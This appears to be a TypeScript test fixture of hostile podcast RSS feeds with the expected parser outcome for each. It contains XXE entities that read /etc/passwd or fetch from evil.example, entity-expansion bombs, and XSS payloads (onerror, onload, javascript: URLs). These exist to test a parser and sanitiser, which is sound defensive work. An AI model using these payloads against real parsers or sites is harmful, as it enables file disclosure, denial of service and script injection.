// Hostile feeds, each with what must happen: `refused` with an error code, or `read` (possibly
// with a warning matching `warns`), in which case every episode's notes are then rendered.
export interface FeedCase {
  name: string;
  xml: () => string;
  expect: { refused: string } | { read: true; warns?: RegExp; episodes?: number };
  /** What the player shows when it differs from the parser's outcome (a problem's words). */
  player?: RegExp;
}

const A = 'alert(1)';
const rss = (items: string, channelExtra = '', prolog = ''): string =>
  `${prolog}<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:podcast="https://podcastindex.org/namespace/1.0"><channel><title>Show</title>${channelExtra}${items}</channel></rss>`;
const item = (inner: string, guid = 'e1'): string =>
  `<item><title>Episode</title><guid>${guid}</guid><enclosure url="https://media.example/e.mp3" type="audio/mpeg" length="1"/>${inner}</item>`;

export const FEED_CASES: readonly FeedCase[] = [
  // Entity expansion and external resources: refused before parsing
  {
    name: 'billion laughs',
    xml: () =>
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${rss(item('<description>&lol3;</description>'))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'quadratic blow-up',
    xml: () =>
      `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]>${rss(item(`<description>${'&a;'.repeat(2000)}</description>`))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'external entity (file)',
    xml: () =>
      `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss(item('<description>&x;</description>'))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'external entity (http)',
    xml: () =>
      `<!DOCTYPE r [<!ENTITY x SYSTEM "https://evil.example/x">]>${rss(item('<description>&x;</description>'))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'external DTD',
    xml: () => `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "https://evil.example/rss.dtd">${rss(item(''))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'parameter entities',
    xml: () => `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${rss(item(''))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'DOCTYPE hidden after a comment',
    xml: () => `<!-- hi --><!DOCTYPE r [<!ENTITY a "b">]>${rss(item('<description>&a;</description>'))}`,
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'DOCTYPE inside the document',
    xml: () => rss(item('<!DOCTYPE x [<!ENTITY a "b">]><description>&a;</description>')),
    expect: { refused: 'unsupported-format' },
  },
  // Size and depth
  {
    name: '10,000-deep nesting',
    xml: () => rss(item(`<description>${'<x>'.repeat(10_000)}deep${'</x>'.repeat(10_000)}</description>`)),
    expect: { refused: 'too-large' },
  },
  {
    name: '26 MB feed',
    xml: () => rss(item(`<description>${'a'.repeat(26 * 1024 * 1024)}</description>`)),
    expect: { refused: 'too-large' },
  },
  // Not feeds
  {
    name: 'an HTML page',
    xml: () => '<!doctype html><html><body><script>alert(1)</script></body></html>',
    expect: { refused: 'unsupported-format' },
  },
  { name: 'JSON', xml: () => '{"items": []}', expect: { refused: 'unsupported-format' } },
  {
    name: 'an SVG document',
    xml: () => `<svg xmlns="http://www.w3.org/2000/svg" onload="${A}"/>`,
    expect: { refused: 'unsupported-format' },
  },
  { name: 'empty', xml: () => '', expect: { refused: 'unsupported-format' } },
  {
    name: 'binary noise',
    xml: () => '\u0000\u0001\u0002\u00ff\ufffe',
    expect: { refused: 'unsupported-format' },
  },
  {
    name: 'an XML declaration and nothing else',
    xml: () => '<?xml version="1.0"?>',
    expect: { refused: 'parse' },
  },
  // Markup in descriptions: read, then rendered only through the sanitiser
  {
    name: 'XHTML-namespaced img onerror in description',
    xml: () =>
      rss(
        item(
          `<description><xhtml:img xmlns:xhtml="http://www.w3.org/1999/xhtml" src="x" onerror="${A}"/>Hello</description>`,
        ),
      ),
    expect: { read: true },
  },
  {
    name: 'escaped script in description',
    xml: () => rss(item(`<description>&lt;p&gt;Hi&lt;/p&gt;&lt;script&gt;${A}&lt;/script&gt;</description>`)),
    expect: { read: true },
  },
  {
    name: 'CDATA script in content:encoded',
    xml: () =>
      rss(
        item(
          `<content:encoded><![CDATA[<p>Hi</p><script>${A}</script><img src=x onerror=${A}>]]></content:encoded>`,
        ),
      ),
    expect: { read: true },
  },
  {
    name: 'CDATA closing early',
    xml: () =>
      rss(item(`<description><![CDATA[<p>One]]>]]&gt;<![CDATA[<img src=x onerror=${A}>]]></description>`)),
    expect: { read: true },
  },
  {
    name: 'CDATA that never closes',
    xml: () => rss(item(`<description><![CDATA[<img src=x onerror=${A}>`)),
    expect: { read: true, warns: /./ },
  },
  {
    name: 'element named like HTML script in the feed',
    xml: () => rss(item(`<script>${A}</script><description>Plain</description>`)),
    expect: { read: true },
  },
  {
    name: 'XSLT processing instruction',
    xml: () =>
      rss(
        item('<description>Hi</description>'),
        '',
        '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
      ),
    expect: { read: true },
  },
  {
    name: 'title with markup stays text (shown, never parsed)',
    xml: () =>
      rss(
        `<item><title>&lt;img src=x onerror=${A}&gt;Ep</title><guid>t</guid><enclosure url="https://media.example/e.mp3" type="audio/mpeg"/></item>`,
      ),
    expect: { read: true },
  },
  {
    name: 'bidi override in the title',
    xml: () => rss(item('<description>x</description>').replace('Episode', 'Episode \u202Eevil')),
    expect: { read: true },
  },
  {
    name: 'javascript: in atom:link next (paging is not followed)',
    xml: () =>
      rss(
        item(''),
        `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="javascript:${A}"/>`,
      ),
    expect: { read: true },
  },
  {
    name: 'paging loop to itself',
    xml: () =>
      rss(
        item(''),
        '<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="https://feed.example/feed.xml"/>',
      ),
    expect: { read: true },
  },
  {
    name: 'itunes prefix bound to another namespace',
    xml: () =>
      rss(item('<itunes:duration>12:00</itunes:duration>')).replace(
        'http://www.itunes.com/dtds/podcast-1.0.dtd',
        'https://evil.example/ns',
      ),
    expect: { read: true },
  },
  {
    name: 'HTML entities without a DTD',
    xml: () => rss(item('<description>Caf&eacute; &nbsp; &copy; &unknownentity;</description>')),
    expect: { read: true },
  },
  {
    name: 'truncated mid-item',
    xml: () => rss(item('<description>ok</description>') + item('<description>cut', 'e2')).slice(0, -40),
    expect: { read: true, warns: /./ },
  },
  {
    name: 'repeated guids',
    xml: () => rss(item('', 'same') + item('', 'same')),
    expect: { read: true, warns: /repeat/ },
  },
  {
    name: 'negative length, NaN duration, far-future date',
    xml: () =>
      rss(
        `<item><title>Odd</title><guid>o</guid><enclosure url="https://media.example/e.mp3" type="audio/mpeg" length="-5"/><itunes:duration>NaN</itunes:duration><pubDate>Fri, 01 Jan 99999 00:00:00 GMT</pubDate></item>`,
      ),
    expect: { read: true, warns: /./ },
  },
  {
    name: 'transcript and chapters with javascript: URLs',
    xml: () =>
      rss(
        item(
          `<podcast:transcript url="javascript:${A}" type="text/vtt"/><podcast:chapters url="javascript:${A}" type="application/json+chapters"/>`,
        ),
      ),
    expect: { read: true },
  },
  {
    name: 'funding and person links with javascript: URLs',
    xml: () =>
      rss(
        item(`<podcast:person href="javascript:${A}" img="javascript:${A}">Ann</podcast:person>`),
        `<podcast:funding url="javascript:${A}">Give</podcast:funding>`,
      ),
    expect: { read: true },
  },
  {
    name: '10 KB title',
    xml: () => rss(item('').replace('Episode', 'E'.repeat(10_240))),
    expect: { read: true },
  },
  {
    name: 'ten thousand empty items',
    xml: () => rss('<item></item>'.repeat(10_000)),
    expect: { read: true },
    player: /This episode has no audio or video to play/,
  },
];
